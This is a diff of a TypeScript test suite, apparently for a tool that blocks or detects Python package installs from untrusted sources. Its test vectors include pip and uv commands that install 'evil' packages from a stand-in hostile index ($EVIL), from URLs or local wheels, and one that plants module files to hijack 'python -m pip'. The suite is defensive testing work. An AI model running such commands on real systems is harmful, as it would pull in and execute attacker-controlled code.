@@ -6,7 +6,7 @@ import { bin, type CommandResult, type Sandbox, sandbox, startProcess } from '..
 import { wheel } from '../helpers/distributions.ts';
 import { type HostileIndex, openHostileIndex } from '../helpers/hostile-index.ts';
 import { installer } from '../helpers/installers.ts';
-import { representatives } from '../helpers/long-form.ts';
+import { longTest, representatives, runsEveryCase } from '../helpers/long-form.ts';
 import { type PackageIndex, startPackageIndex } from '../helpers/package-index.ts';
 
 const uvFolder = await installer('uv');
@@ -54,7 +54,13 @@ const distributionsIn = async (name: string, folder: string) =>
     .flatMap((file) => /([^/]+)\.dist-info$/.exec(file)?.[1] ?? [])
     .sort();
 
-type Vector = { readonly title: string; readonly script: string; readonly needsUv?: true };
+type Vector = {
+  readonly title: string;
+  readonly script: string;
+  readonly needsUv?: true;
+  /** Creating an environment with pip takes seconds. */
+  readonly isSlow?: true;
+};
 
 /** Commands that are rejected before they download: their options name another source. */
 const rejected: readonly Vector[] = [
@@ -64,9 +70,9 @@ const rejected: readonly Vector[] = [
   { title: 'python: options before -m', script: 'python3 -I -W ignore -m pip install -i "$EVIL" --target t evil' },
   { title: 'python: a cluster', script: 'python3 -Impip install --extra-index-url "$EVIL" --target t evil' },
   { title: 'pip: a local wheel', script: 'pip install --no-deps --target t ./evil-99.0-py3-none-any.whl' },
-  { title: 'pip: a URL', script: 'pip install --target t "${EVIL}evil-99.0-py3-none-any.whl"' },
+  { title: 'pip: a URL', script: 'pip install --target t "$EVIL"evil-99.0-py3-none-any.whl' },
   { title: 'pip: below env and nice', script: 'nice env X=1 pip install -i "$EVIL" --target t evil' },
-  { title: 'uv: a URL', script: 'uv pip install --target t "${EVIL}evil-99.0-py3-none-any.whl"', needsUv: true },
+  { title: 'uv: a URL', script: 'uv pip install --target t "$EVIL"evil-99.0-py3-none-any.whl', needsUv: true },
   { title: 'uv: another index', script: 'uv pip install --default-index "$EVIL" --target t evil', needsUv: true },
   { title: 'uv: a local wheel', script: 'uv pip install --target t ./evil-99.0-py3-none-any.whl', needsUv: true },
 ];
@@ -102,14 +108,17 @@ const found: readonly Vector[] = [
   {
     title: 'environment: of the project',
     script: 'python3 -m venv .venv && .venv/bin/pip install --isolated --proxy= -i "$EVIL" evil',
+    isSlow: true,
   },
   {
     title: 'environment: elsewhere',
     script: 'cd "$(mktemp -d)" && python3 -m venv v && v/bin/pip install --no-deps "$WHEEL"',
+    isSlow: true,
   },
   {
     title: 'environment: activated',
     script: 'python3 -m venv v && . v/bin/activate && pip install --no-deps "$WHEEL"',
+    isSlow: true,
   },
   {
     title: 'path: failing after the install',
@@ -130,7 +139,9 @@ const found: readonly Vector[] = [
 const kindOf = ({ title }: Vector): string => title.split(':', 1)[0] ?? title;
 const cases = (vectors: readonly Vector[]) =>
   representatives(
-    vectors.filter(({ needsUv }) => needsUv !== true || uvFolder !== undefined),
+    vectors
+      .filter(({ needsUv }) => needsUv !== true || uvFolder !== undefined)
+      .filter(({ isSlow }) => isSlow !== true || runsEveryCase),
     kindOf,
   );
 
@@ -182,8 +193,13 @@ ${backend}END
 printf '[build-system]\\nrequires = []\\nbuild-backend = "backend"\\nbackend-path = ["."]\\n' >>pyproject.toml
 set -e
 python3 -m venv .venv && .venv/bin/pip install good && .venv/bin/pip install -e .`,
+    isSlow: true,
   },
-  { title: 'environment: of virtualenv', script: 'python3 -m venv a && a/bin/python -m ensurepip --upgrade' },
+  {
+    title: 'environment: of virtualenv',
+    script: 'python3 -m venv a && a/bin/python -m ensurepip --upgrade',
+    isSlow: true,
+  },
   { title: 'copied: an environment without its installer', script: 'cp -r ../../projects/first/target copied' },
   {
     title: 'uv: from its cache',
@@ -194,6 +210,7 @@ python3 -m venv .venv && .venv/bin/pip install good && .venv/bin/pip install -e 
     title: 'uv: an environment with pip',
     script: 'python3 -m venv v && VIRTUAL_ENV=$PWD/v "$UV" pip install other',
     needsUv: true,
+    isSlow: true,
   },
 ];
 
@@ -203,7 +220,7 @@ describe('what needs no vetting is no error', () => {
     expect([ran.exitCode, ran.stderr]).toEqual([0, expect.not.stringContaining('was installed')]);
   });
 
-  test('two commands at the same time in one project', async () => {
+  longTest('two commands at the same time in one project', async () => {
     const ran = await Promise.all([
       exec('both', 'pip install --target a good; sleep 1'),
       exec('both', 'pip install --target b other; sleep 1'),
@@ -233,6 +250,10 @@ test('`python -m pip` runs no module of the working folder', async () => {
   const script = `echo 'open("ran", "w")' | tee pip.py typing.py >/dev/null; python3 -m pip install --target t good; ls`;
   const ran = await exec('modules', script);
   expect([ran.exitCode, ran.stdout.split('\n')]).toEqual([0, expect.not.arrayContaining(['ran'])]);
+  expect(await exec('modules', 'good', ['python3', '-m', 'pip', 'install', '--target', 'u'])).toMatchObject({
+    exitCode: 0,
+  });
+  expect(await readdir(user.path('projects', 'modules'))).not.toContain('ran');
 });
 
 test('a program reaches other hosts through the relay, but not as an installer', async () => {
